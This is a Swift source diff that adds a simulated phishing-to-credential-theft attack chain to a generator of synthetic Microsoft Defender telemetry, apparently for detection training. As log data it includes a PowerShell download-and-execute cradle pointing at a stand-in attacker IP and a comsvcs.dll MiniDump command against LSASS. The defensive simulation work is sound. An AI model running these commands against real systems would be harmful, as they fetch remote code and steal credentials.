@@ -1,0 +1,285 @@
+import KustoTime
+import OpenMTPModels
+
+/// Attack chains woven into the simulated activity, each with the alerts Microsoft Defender would raise.
+extension Simulator {
+    static let attackerIP = "198.51.100.77"
+    static let attackerDomain = "fabrikam-billing.test"
+    static let payload = Binary(
+        "updater.exe",
+        in: #"C:\Users\Public\Libraries"#,
+        company: "",
+        product: "",
+        description: ""
+    )
+    static let rundll32 = Binary(
+        "rundll32.exe",
+        in: Binaries.system32,
+        product: "Microsoft® Windows® Operating System",
+        description: "Windows host process (Rundll32)"
+    )
+
+    /// Phishing attachment → Word spawns a PowerShell download cradle → payload → C2 beaconing → LSASS dump.
+    mutating func attackChain(on device: SimulatedDevice, from desktop: SimulatedProcess, into day: inout DayBuilder) {
+        let user = world.users[device.primaryUser]
+        let account = SimulatedAccount(user, netbios: world.netbios)
+        var time = desktop.created + Int64(random.int(600...1_800)) * DateTimeTicks.perSecond
+        let messageId = random.guid()
+        let attachment = Binary(
+            "Invoice_4821.docm",
+            in: #"C:\Users\\#(account.name)\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7GQ2KD1V"#,
+            company: "",
+            product: "",
+            description: ""
+        )
+        let sender = "accounts@\(Self.attackerDomain)"
+
+        // T1566.001: the mail with a macro document gets through.
+        day.add(
+            "EmailEvents",
+            at: time,
+            [
+                ("NetworkMessageId", .string(messageId)), ("InternetMessageId", .string("<\(random.hex(16))@\(Self.attackerDomain)>")),
+                ("SenderFromAddress", .string(sender)), ("SenderMailFromAddress", .string(sender)),
+                ("SenderFromDomain", .string(Self.attackerDomain)),
+                ("SenderMailFromDomain", .string(Self.attackerDomain)), ("SenderIPv4", .string(Self.attackerIP)),
+                ("RecipientEmailAddress", .string(user.upn)),
+                ("RecipientObjectId", .string(user.objectId)), ("Subject", .string("Overdue invoice #4821")), ("EmailDirection", .string("Inbound")),
+                ("DeliveryAction", .string("Delivered")), ("DeliveryLocation", .string("Inbox/folder")), ("AttachmentCount", .int(1)),
+                ("UrlCount", .int(0)),
+                ("EmailLanguage", .string("en")), ("ReportId", .string(random.guid())),
+            ]
+        )
+        day.add(
+            "EmailAttachmentInfo",
+            at: time,
+            [
+                ("NetworkMessageId", .string(messageId)), ("SenderFromAddress", .string(sender)), ("RecipientEmailAddress", .string(user.upn)),
+                ("RecipientObjectId", .string(user.objectId)), ("FileName", .string(attachment.fileName)), ("FileType", .string("docm")),
+                ("SHA256", .string(attachment.sha256)), ("FileSize", .int(attachment.size)), ("ReportId", .string(random.guid())),
+            ]
+        )
+        time += Int64(random.int(120...900)) * DateTimeTicks.perSecond
+        let outlook = start(
+            Binaries.outlook,
+            on: device,
+            at: time,
+            as: account,
+            integrity: "Medium",
+            commandLine: "\"\(Binaries.outlook.path)\"",
+            parent: desktop,
+            into: &day
+        )
+        day.add(
+            "DeviceFileEvents",
+            at: time + DateTimeTicks.perSecond,
+            device: device,
+            process: outlook,
+            fileFields(attachment, action: "FileCreated", device: device)
+        )
+        time += Int64(random.int(30...300)) * DateTimeTicks.perSecond
+        let word = start(
+            Binaries.word,
+            on: device,
+            at: time,
+            as: account,
+            integrity: "Medium",
+            commandLine: "\"\(Binaries.word.path)\" /n \"\(attachment.path)\" /o \"\"",
+            parent: outlook,
+            into: &day
+        )
+
+        // T1059.001 + T1105: the macro starts a download cradle.
+        time += Int64(random.int(3...20)) * DateTimeTicks.perSecond
+        let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://\(Self.attackerIP)/a.ps1')\""
+        let powershell = start(
+            Binaries.powershell,
+            on: device,
+            at: time,
+            as: account,
+            integrity: "Medium",
+            commandLine: cradle,
+            parent: word,
+            into: &day
+        )
+        day.add(
+            "DeviceNetworkEvents",
+            at: time + 2 * DateTimeTicks.perSecond,
+            device: device,
+            process: powershell,
+            connectionFields(device, port: 80, url: "http://\(Self.attackerIP)/a.ps1")
+        )
+        day.add(
+            "DeviceFileEvents",
+            at: time + 4 * DateTimeTicks.perSecond,
+            device: device,
+            process: powershell,
+            fileFields(Self.payload, action: "FileCreated", device: device)
+        )
+        time += 6 * DateTimeTicks.perSecond
+        let implant = start(
+            Self.payload,
+            on: device,
+            at: time,
+            as: account,
+            integrity: "Medium",
+            commandLine: "\"\(Self.payload.path)\" -k netsvc",
+            parent: powershell,
+            into: &day
+        )
+
+        // T1071.001: beaconing every minute, with jitter, for two hours.
+        var beacon = time
+        for _ in 0..<120 {
+            beacon += Int64(random.int(50...70)) * DateTimeTicks.perSecond
+            day.add(
+                "DeviceNetworkEvents",
+                at: beacon,
+                device: device,
+                process: implant,
+                connectionFields(device, port: 443, url: "update-cdn.\(Self.attackerDomain)")
+            )
+        }
+
+        // T1003.001: LSASS memory dumped through comsvcs.dll.
+        time += Int64(random.int(900...2_400)) * DateTimeTicks.perSecond
+        let lsassId = Int64(random.int(600...1_000)) * 4
+        let dumpCommand = #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump \#(lsassId) C:\Users\Public\l.dmp full"#
+        let dumper = start(Self.rundll32, on: device, at: time, as: account, integrity: "High", commandLine: dumpCommand, parent: implant, into: &day)
+        day.add(
+            "DeviceEvents",
+            at: time + DateTimeTicks.perSecond,
+            device: device,
+            process: dumper,
+            [
+                ("ActionType", .string("OpenProcessApiCall")), ("FileName", .string("lsass.exe")),
+                ("FolderPath", .string(#"C:\Windows\System32\lsass.exe"#)), ("ProcessId", .int(lsassId)), ("ReportId", .int(reportId(device))),
+            ]
+        )
+        let dump = Binary("l.dmp", in: #"C:\Users\Public"#, company: "", product: "", description: "")
+        day.add(
+            "DeviceFileEvents",
+            at: time + 3 * DateTimeTicks.perSecond,
+            device: device,
+            process: dumper,
+            fileFields(dump, action: "FileCreated", device: device)
+        )
+
+        alert(
+            "Suspicious email attachment delivered",
+            category: "InitialAccess",
+            techniques: ["Spearphishing Attachment (T1566.001)"],
+            source: "Microsoft Defender for Office 365",
+            detection: "MDO",
+            severity: "Medium",
+            at: outlook.created + 5 * 60 * DateTimeTicks.perSecond,
+            evidence: [
+                [
+                    ("EntityType", .string("MailMessage")), ("EvidenceRole", .string("Impacted")), ("NetworkMessageId", .string(messageId)),
+                    ("EmailSubject", .string("Overdue invoice #4821")),
+                ],
+                [
+                    ("EntityType", .string("File")), ("EvidenceRole", .string("Impacted")), ("FileName", .string(attachment.fileName)),
+                    ("SHA256", .string(attachment.sha256)),
+                ],
+                [
+                    ("EntityType", .string("Mailbox")), ("EvidenceRole", .string("Impacted")), ("AccountUpn", .string(user.upn)),
+                    ("AccountObjectId", .string(user.objectId)),
+                ],
+            ],
+            into: &day
+        )
+        alert(
+            "Suspicious PowerShell download cradle",
+            category: "Execution",
+            techniques: ["PowerShell (T1059.001)", "Ingress Tool Transfer (T1105)"],
+            source: "Microsoft Defender for Endpoint",
+            detection: "EDR",
+            severity: "High",
+            at: powershell.created + 30 * DateTimeTicks.perSecond,
+            evidence: [
+                processEvidence(powershell, device: device, role: "Related"), processEvidence(word, device: device, role: "Related"),
+                [("EntityType", .string("Ip")), ("EvidenceRole", .string("Related")), ("RemoteIP", .string(Self.attackerIP))],
+                machineEvidence(device), userEvidence(user, account: account),
+            ],
+            into: &day
+        )
+        alert(
+            "Suspicious access to LSASS service memory",
+            category: "CredentialAccess",
+            techniques: ["LSASS Memory (T1003.001)"],
+            source: "Microsoft Defender for Endpoint",
+            detection: "EDR",
+            severity: "High",
+            at: dumper.created + 20 * DateTimeTicks.perSecond,
+            evidence: [processEvidence(dumper, device: device, role: "Impacted"), machineEvidence(device), userEvidence(user, account: account)],
+            into: &day
+        )
+    }
+
+    // MARK: Pieces
+
+    private func fileFields(_ file: Binary, action: String, device: SimulatedDevice) -> [(String, JSONValue)] {
+        [
+            ("ActionType", .string(action)), ("FileName", .string(file.fileName)), ("FolderPath", .string(file.path)), ("SHA1", .string(file.sha1)),
+            ("SHA256", .string(file.sha256)), ("MD5", .string(file.md5)), ("FileSize", .int(file.size)),
+        ]
+    }
+
+    private mutating func connectionFields(_ device: SimulatedDevice, port: Int64, url: String) -> [(String, JSONValue)] {
+        [
+            ("ActionType", .string("ConnectionSuccess")), ("RemoteIP", .string(Self.attackerIP)), ("RemotePort", .int(port)),
+            ("RemoteUrl", .string(url)),
+            ("LocalIP", .string(device.ip)), ("LocalPort", .int(Int64(random.int(49_152...65_000)))), ("Protocol", .string("Tcp")),
+            ("LocalIPType", .string("Private")), ("RemoteIPType", .string("Public")), ("ReportId", .int(reportId(device))),
+        ]
+    }
+
+    private func processEvidence(_ process: SimulatedProcess, device: SimulatedDevice, role: String) -> [(String, JSONValue)] {
+        [
+            ("EntityType", .string("Process")), ("EvidenceRole", .string(role)), ("FileName", .string(process.binary.fileName)),
+            ("FolderPath", .string(process.binary.path)), ("SHA1", .string(process.binary.sha1)), ("SHA256", .string(process.binary.sha256)),
+            ("FileSize", .int(process.binary.size)), ("ProcessCommandLine", .string(process.commandLine)), ("DeviceId", .string(device.deviceId)),
+            ("DeviceName", .string(device.name)),
+        ]
+    }
+
+    private func machineEvidence(_ device: SimulatedDevice) -> [(String, JSONValue)] {
+        [
+            ("EntityType", .string("Machine")), ("EvidenceRole", .string("Impacted")), ("DeviceId", .string(device.deviceId)),
+            ("DeviceName", .string(device.name)), ("LocalIP", .string(device.ip)),
+        ]
+    }
+
+    private func userEvidence(_ user: SimulatedUser, account: SimulatedAccount) -> [(String, JSONValue)] {
+        [
+            ("EntityType", .string("User")), ("EvidenceRole", .string("Impacted")), ("AccountName", .string(account.name)),
+            ("AccountDomain", .string(account.domain)), ("AccountSid", .string(account.sid)), ("AccountObjectId", .string(user.objectId)),
+            ("AccountUpn", .string(user.upn)),
+        ]
+    }
+
+    /// An `AlertInfo` row and one `AlertEvidence` row per entity, sharing the alert's id, title and techniques.
+    private mutating func alert(
+        _ title: String,
+        category: String,
+        techniques: [String],
+        source: String,
+        detection: String,
+        severity: String,
+        at time: Int64,
+        evidence: [[(String, JSONValue)]],
+        into day: inout DayBuilder
+    ) {
+        let alertId = (detection == "MDO" ? "fa" : "da") + random.hex(16) + "_" + String(random.int(100_000_000...999_999_999))
+        let techniqueList = JSONValue.array(techniques.map(JSONValue.string)).serialized
+        let shared: [(String, JSONValue)] = [
+            ("AlertId", .string(alertId)), ("Title", .string(title)), ("ServiceSource", .string(source)), ("DetectionSource", .string(detection)),
+            ("AttackTechniques", .string(techniqueList)),
+        ]
+        day.add("AlertInfo", at: time, shared + [("Category", .string(category)), ("Severity", .string(severity))])
+        for entity in evidence {
+            day.add("AlertEvidence", at: time, shared + [("Categories", .string(#"["\#(category)"]"#)), ("Severity", .string(severity))] + entity)
+        }
+    }
+}
